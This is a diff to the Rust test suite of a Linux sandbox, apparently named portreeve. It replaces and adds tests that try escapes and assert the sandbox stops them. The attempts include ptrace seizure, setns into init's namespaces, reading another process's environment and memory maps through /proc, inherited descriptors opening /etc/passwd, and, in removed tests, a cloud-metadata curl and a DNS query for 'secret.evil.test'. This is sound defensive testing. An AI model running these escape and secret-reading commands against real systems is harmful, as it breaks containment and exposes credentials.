@@ -1,64 +1,27 @@
-//! Ways out of a jail, each of which works without one.
+//! Ways out of a jail by the kernel and by processes, each of which works without a jail.
+//! That each is stopped by what should stop it is shown by `tests/exec/mutations`.
 
-use std::os::linux::net::SocketAddrExt;
-use std::os::unix::net::{SocketAddr, UnixListener};
-use std::process::{Command, Stdio};
+use std::process::{Command, Output};
 
-use crate::jail::{Jail, shown};
-
-fn python(script: &str) -> String {
-    format!("python3 -c '{script}'")
-}
-
-fn connect(address: &str) -> String {
-    python(&format!(
-        "import socket; socket.socket(socket.AF_UNIX).connect({address})"
-    ))
-}
-
-#[test]
-fn sockets_of_agents_and_daemons() {
-    let Some(jail) = Jail::new() else { return };
-    // ssh-agent and tmux have theirs in /tmp.
-    let folder = tempfile::tempdir_in("/tmp").unwrap();
-    let path = folder.path().join("agent.1");
-    let _agent = UnixListener::bind(&path).unwrap();
-    jail.stops(&connect(&format!("\"{}\"", path.display())));
-    // The session bus, Docker without root, systemd's: in $XDG_RUNTIME_DIR, wherever that is.
-    std::fs::create_dir(jail.path("runtime")).unwrap();
-    let path = jail.path("runtime/bus");
-    let _bus = UnixListener::bind(&path).unwrap();
-    let attack = connect(&format!("\"{}\"", path.display()));
-    assert!(jail.succeeds(&attack), "the attack is one");
-    let mut command = jail.command(&["sh", "-c", &attack]);
-    command.env("XDG_RUNTIME_DIR", jail.path("runtime"));
-    let output = command.output().unwrap();
-    assert!(!output.status.success(), "{}", shown(&output));
-    // Docker, resolved, the system bus: in /run, which is new.
-    assert_eq!(jail.says("ls /run"), "portreeve");
-    assert_eq!(jail.says("ls -A /dev/shm"), "");
-}
-
-#[test]
-fn an_abstract_socket() {
-    let Some(jail) = Jail::new() else { return };
-    let name = format!("portreeve-test-{}", std::process::id());
-    let address = SocketAddr::from_abstract_name(&name).unwrap();
-    let _listener = UnixListener::bind_addr(&address).unwrap();
-    jail.stops(&connect(&format!("\"\\0{name}\"")));
-}
+use crate::common::inside;
+use crate::jail::{Jail, here, python, script, shown, through, wrapped};
 
 #[test]
 fn socket_families_beside_the_network_stack() {
     let Some(jail) = Jail::new() else { return };
-    let family = |name: &str| {
+    let family = |name: &str, kind: &str| {
         python(&format!(
-            "import errno, socket\ntry: socket.socket(socket.{name}, socket.SOCK_RAW)\n\
+            "import errno, socket\ntry: socket.socket(socket.{name}, socket.{kind})\n\
              except OSError as e: print(errno.errorcode[e.errno])"
         ))
     };
-    for name in ["AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_TIPC"] {
-        assert_eq!(jail.says(&family(name)), "EAFNOSUPPORT", "{name}");
+    for (name, kind) in [
+        ("AF_VSOCK", "SOCK_STREAM"),
+        ("AF_PACKET", "SOCK_RAW"),
+        ("AF_ALG", "SOCK_SEQPACKET"),
+        ("AF_TIPC", "SOCK_STREAM"),
+    ] {
+        assert_eq!(jail.says(&family(name, kind)), "EAFNOSUPPORT", "{name}");
     }
     // In namespaces of its own, a command has every capability, and still none of these.
     let packet = python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)");
@@ -88,18 +51,62 @@ fn system_calls_that_know_no_namespace() {
     for number in numbers {
         let call = python(&format!(
             "import ctypes, errno; c = ctypes.CDLL(None, use_errno=True); \
-             c.syscall({number}, 0, 0, 0, 0, 0); print(errno.errorcode[ctypes.get_errno()])"
+             c.syscall({number}, 0, 0, 0, 0, 0, 0); print(errno.errorcode[ctypes.get_errno()])"
         ));
         assert_eq!(jail.says(&call), "ENOSYS", "{number}");
     }
 }
 
+/// Enters the namespace of this descriptor.
+fn setns(descriptor: &str) -> String {
+    python(&format!(
+        "import ctypes, os; exit(0 if ctypes.CDLL(None).setns({descriptor}, 0) == 0 else 1)"
+    ))
+}
+
+/// Numbers of processes that no jail reaches by counting from 1.
+const HIGH_NUMBERS: &str = "echo 10000 > /proc/sys/kernel/ns_last_pid || \
+    { i=0; while [ $i -lt 2000 ]; do (:); i=$((i + 1)); done; }";
+
 #[test]
 fn the_gateway_can_be_neither_seen_nor_signalled() {
+    // Here the attacks work without a jail, whatever the machine says of ptrace.
+    inside(|| {
+        let jail = Jail::nested();
+        let jail = jail.env("TEST_SECRET", "s3cret");
+        assert!(jail.succeeds_outside(HIGH_NUMBERS));
+        let seize = "import ctypes, os; \
+            exit(0 if ctypes.CDLL(None).ptrace(0x4206, int(os.environ[\"pid\"]), 0, 0) == 0 else 1)";
+        let attacks = [
+            ("proc", "test -e /proc/$pid".to_owned()),
+            ("signal", "kill -0 $pid".to_owned()),
+            (
+                "environment",
+                "grep -q s3cret /proc/$pid/environ".to_owned(),
+            ),
+            ("memory", "grep -q . /proc/$pid/maps".to_owned()),
+            ("files", "ls /proc/$pid/root/ /proc/$pid/cwd/".to_owned()),
+            ("descriptors", "ls -l /proc/$pid/fd/".to_owned()),
+            ("ptrace", python(seize)),
+            ("setns", "nsenter --net --target $pid true".to_owned()),
+        ];
+        let all: Vec<_> = attacks.iter().map(|(name, _)| *name).collect();
+        let attack = format!("export pid; {}", script(&attacks));
+        let mut jail = jail.start(&format!("echo up; read pid; {attack}"));
+        let gateway = jail.gateway();
+        assert!(gateway > 1000);
+        let mut outside = Command::new("sh");
+        outside.args(["-c", &format!("pid={gateway}; {attack}")]);
+        assert_eq!(through(&here(outside)), all, "all are attacks");
+        jail.tell(&gateway.to_string());
+        let (said, status) = jail.end();
+        assert_eq!(said, "end\n", "{status}");
+    });
+}
+
+#[test]
+fn init_can_be_neither_read_nor_ended() {
     let Some(jail) = Jail::new() else { return };
-    let test = std::process::id();
-    jail.stops(&format!("kill -0 {test}"));
-    jail.stops(&format!("test -e /proc/{test}"));
     // Init, the shell, and what counts: nobody else.
     let count = jail.says("ls /proc | grep -c '^[0-9]'");
     assert!(count.parse::<u32>().unwrap() <= 4, "{count}");
@@ -116,16 +123,30 @@ fn the_gateway_can_be_neither_seen_nor_signalled() {
         jail.succeeds("kill -KILL 1; kill -STOP 1; sleep 0"),
         "init ignores it"
     );
+    for kind in ["net", "mnt", "user", "pid"] {
+        let namespace = format!("os.open(\"/proc/1/ns/{kind}\", os.O_RDONLY)");
+        assert!(!jail.succeeds(&setns(&namespace)), "{kind}");
+    }
+}
+
+/// As if whoever calls `exec` had left these open.
+fn with_descriptors(command: &Command) -> Output {
+    let open = "exec 7</proc 8</proc/self/ns/net 9</etc/passwd; exec \"$@\"";
+    here(wrapped(&["sh", "-c", open, "sh"], command))
 }
 
 #[test]
-fn namespaces_of_others() {
-    let Some(jail) = Jail::new() else { return };
-    for kind in ["net", "mnt", "user", "pid"] {
-        let setns = format!("import os; os.setns(os.open(\"/proc/1/ns/{kind}\", os.O_RDONLY))");
-        assert!(!jail.succeeds(&python(&setns)), "{kind}");
-    }
-    assert!(!jail.succeeds("nsenter --target 1 --net true"));
+fn inherited_descriptors_are_closed() {
+    inside(|| {
+        let jail = Jail::nested();
+        let parent = "import os; os.open(\"self\", os.O_RDONLY, dir_fd=7)";
+        let attacks = [
+            ("folder", python(parent)),
+            ("setns_back", setns("8")),
+            ("file", "grep -q root: <&9".to_owned()),
+        ];
+        jail.stop_all(|command| with_descriptors(&command), &attacks);
+    });
 }
 
 #[test]
@@ -154,72 +175,6 @@ fn the_table_the_routes_and_the_mounts_stay() {
 }
 
 #[test]
-fn packets_that_are_no_redirected_connection() {
-    let Some(jail) = Jail::new() else { return };
-    let links = jail.says("PATH=$PATH:/usr/sbin:/sbin; ip -o link | wc -l");
-    assert_eq!(links, "1", "only lo");
-    for (family, address) in [("AF_INET", "192.0.2.1"), ("AF_INET6", "2001:db8::1")] {
-        let udp = |port: u16| {
-            python(&format!(
-                "import socket; s = socket.socket(socket.{family}, socket.SOCK_DGRAM); \
-                 s.connect((\"{address}\", {port})); s.send(b\"x\"); s.settimeout(20); s.recv(9)"
-            ))
-        };
-        for port in [443, 9999] {
-            let said = shown(&jail.sh(&udp(port)));
-            let refused = said.contains("ConnectionRefused") || said.contains("PermissionError");
-            assert!(refused, "{said}");
-        }
-        let tcp = python(&format!(
-            "import socket; socket.create_connection((\"{address}\", 25), 20)"
-        ));
-        let said = shown(&jail.sh(&tcp));
-        assert!(said.contains("ConnectionRefused"), "{said}");
-        let raw = python(&format!(
-            "import socket; socket.socket(socket.{family}, socket.SOCK_RAW, 1)"
-        ));
-        assert!(shown(&jail.sh(&raw)).contains("PermissionError"));
-    }
-    let metadata = "curl -sS --max-time 2 http://169.254.169.254/latest/meta-data/";
-    assert!(!jail.succeeds(metadata));
-}
-
-#[test]
-fn names_are_asked_of_the_gateway_whatever_the_resolver() {
-    let Some(jail) = Jail::new() else { return };
-    for resolver in ["127.0.0.53", "8.8.8.8"] {
-        let query = python(&format!(
-            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
-             s.settimeout(20); s.connect((\"{resolver}\", 53)); \
-             s.send(b\"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\" \
-             b\"\\x06secret\\x04evil\\x04test\\0\\0\\x01\\0\\x01\"); \
-             print(socket.inet_ntoa(s.recv(512)[-4:]))"
-        ));
-        assert_eq!(jail.says(&query), "198.18.0.1", "{resolver}");
-    }
-}
-
-#[test]
-fn inherited_descriptors_are_closed() {
-    let Some(jail) = Jail::new() else { return };
-    let exec = jail.command(&["sh", "-c", "cat <&9"]);
-    let words: Vec<String> = std::iter::once(exec.get_program())
-        .chain(exec.get_args())
-        .map(|word| format!("'{}'", word.to_str().unwrap()))
-        .collect();
-    let script = format!("exec 9</etc/passwd; {}", words.join(" "));
-    let mut shell = Command::new("sh");
-    shell.args(["-c", &script]).stdin(Stdio::null());
-    for (name, value) in exec.get_envs() {
-        shell.env(name, value.unwrap_or_default());
-    }
-    let output = shell.output().unwrap();
-    assert!(!shown(&output).contains("root:"), "{}", shown(&output));
-    assert!(!output.status.success());
-    assert!(jail.succeeds_outside("exec 9</etc/passwd; cat <&9"));
-}
-
-#[test]
 fn nothing_is_left_to_gain_privileges_with() {
     let Some(jail) = Jail::new() else { return };
     let status = jail.says("cat /proc/self/status");
@@ -230,21 +185,4 @@ fn nothing_is_left_to_gain_privileges_with() {
         );
     }
     assert!(status.contains("NoNewPrivs:\t1"), "{status}");
-}
-
-#[test]
-fn strict_forbids_user_namespaces_and_unix_sockets() {
-    let Some(jail) = Jail::new() else { return };
-    let path = jail.path("work/daemon.sock");
-    let _daemon = UnixListener::bind(&path).unwrap();
-    let (nested, socket) = ("unshare --user true", connect("\"daemon.sock\""));
-    assert!(
-        jail.succeeds(nested) && jail.succeeds(&socket),
-        "not by default"
-    );
-    let jail = jail.flag("--strict");
-    jail.stops(nested);
-    jail.stops(&socket);
-    let pair = python("import socket; socket.socketpair()");
-    assert!(jail.succeeds(&pair));
 }
